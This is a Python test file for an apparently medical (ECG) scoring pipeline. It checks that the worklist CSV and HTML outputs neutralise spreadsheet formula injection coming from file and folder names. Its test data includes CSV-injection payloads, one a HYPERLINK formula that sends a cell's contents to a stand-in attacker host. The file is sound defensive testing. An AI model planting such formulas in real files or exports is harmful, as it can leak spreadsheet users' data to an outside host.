"""The worklist CSV never carries a spreadsheet formula: file and folder names chosen by whoever
writes to the archive (`=HYPERLINK(...)` and the other OWASP CSV-injection starts) are written as
text, through the writer on real rows and end to end through a real scoring run."""

from __future__ import annotations

import csv
import shutil
from datetime import UTC, datetime
from pathlib import Path

import pyarrow as pa

from data_contracts.schemas import SCORES, SITE_FIELD
from msaic_model.config import load_config
from msaic_model.net import build_model
from tasks import store as st
from tasks.score_run import score_archive_run
from tasks.settings import Settings
from tasks.worklist import write_worklist
from tests.conftest import LUDB
from tests.flows.scoring_setup import TINY_CONFIG
from tests.msaic_model.test_model_validation import register_model

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"open").hea',
    "+SUM(1,2).hea",
    "-2+3.hea",
    "@SUM(A1:A9).hea",
    "\t=1+1.hea",
    "\r=1+1.hea",
]


def score_rows(paths: list[str], site: str = "a", flagged: bool = True) -> pa.Table:
    """Real OUT/scores rows (with the `site` column `stage_parts` partitions on), one window each."""
    n = len(paths)
    rows = {
        "record_id": [f"r{i}" for i in range(n)],
        "source_path": paths,
        "window": [0] * n,
        "content_sha256": ["0" * 64] * n,
        "recorded_date": ["2019-03-01"] * n,
        "verdict": ["pass"] * n,
        "quality_reasons": [[] for _ in paths],
        "flagged_leads": [[] for _ in paths],
        "probability": [0.9 - 0.01 * i for i in range(n)],
        "flagged": [flagged] * n,
        "threshold": [0.5] * n,
        "model_id": ["m"] * n,
        "model_version": ["net msaic 1"] * n,
        "territory": ["inferior"] * n,
        "top_leads": [["III", "aVF"] for _ in paths],
        "explanation": ["consistent with an inferior territory (leads III, aVF)"] * n,
        "unscored_reason": [None] * n,
        "qc_version": ["qc/1"] * n,
        "score_version": ["score/2"] * n,
        "scored_at": [datetime.now(UTC)] * n,
        "site": [site] * n,
    }
    return pa.Table.from_pydict(rows, schema=SCORES.append(SITE_FIELD))


def commit_scores(out: Path, table: pa.Table) -> list[Path]:
    """Publish rows to OUT/scores as a run does; returns the part files written."""
    moves = st.stage_parts(out, "scores", table)
    st.Commit(moves=moves).publish(out)
    return [final for _, final in moves]


def _read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="") as fh:
        return list(csv.DictReader(fh))


def test_formula_like_cells_are_written_as_text(tmp_path: Path) -> None:
    out = tmp_path / "out"
    commit_scores(out, score_rows([*HOSTILE, "plain/record.hea"]))
    csv_path, html_path, n = write_worklist(out)
    assert n == len(HOSTILE) + 1
    rows = _read_csv(csv_path)
    assert len(rows) == n  # a CR inside a cell is quoted, not a new row
    by_path = {row["source_path"].removeprefix("'"): row for row in rows}
    for path in HOSTILE:
        assert by_path[path]["source_path"] == "'" + path  # what a spreadsheet shows as text
    assert by_path["plain/record.hea"]["source_path"] == "plain/record.hea"
    assert all(row["rank"].isdigit() and not row["probability"].startswith("'") for row in rows)
    assert "&quot;http://evil.example/?leak=&quot;&amp;A1" in html_path.read_text()  # HTML escapes, unquoted


def test_a_hostile_folder_name_scored_end_to_end_is_text_in_the_worklist(tmp_path: Path) -> None:
    """A real LUDB record in a folder named `=HYPERLINK(...)` (its site too, by the folder rule),
    scored by a registered tiny network whose threshold flags everything scored."""
    folder = tmp_path / "archive" / '=HYPERLINK("http:evil.example","open")'
    folder.mkdir(parents=True)
    for ext in ("hea", "dat"):
        shutil.copy(LUDB / f"1.{ext}", folder / f"1.{ext}")
    config = load_config(TINY_CONFIG)
    model = register_model(
        tmp_path / "models-store",
        "tiny",
        {"kind": "net", "model": config.model_dump(mode="json")},
        build_model(config).state_dict(),
        threshold=1e-6,
    )
    out = tmp_path / "out"
    totals = score_archive_run(tmp_path / "archive", model, out, Settings(workers=1))
    assert totals.counts["flagged"] == 1
    csv_path, _, n = write_worklist(out)
    [row] = _read_csv(csv_path)
    assert n == 1
    assert row["source_path"] == "'" + f"{folder.name}/1.hea"
    assert row["site"] == "'" + folder.name
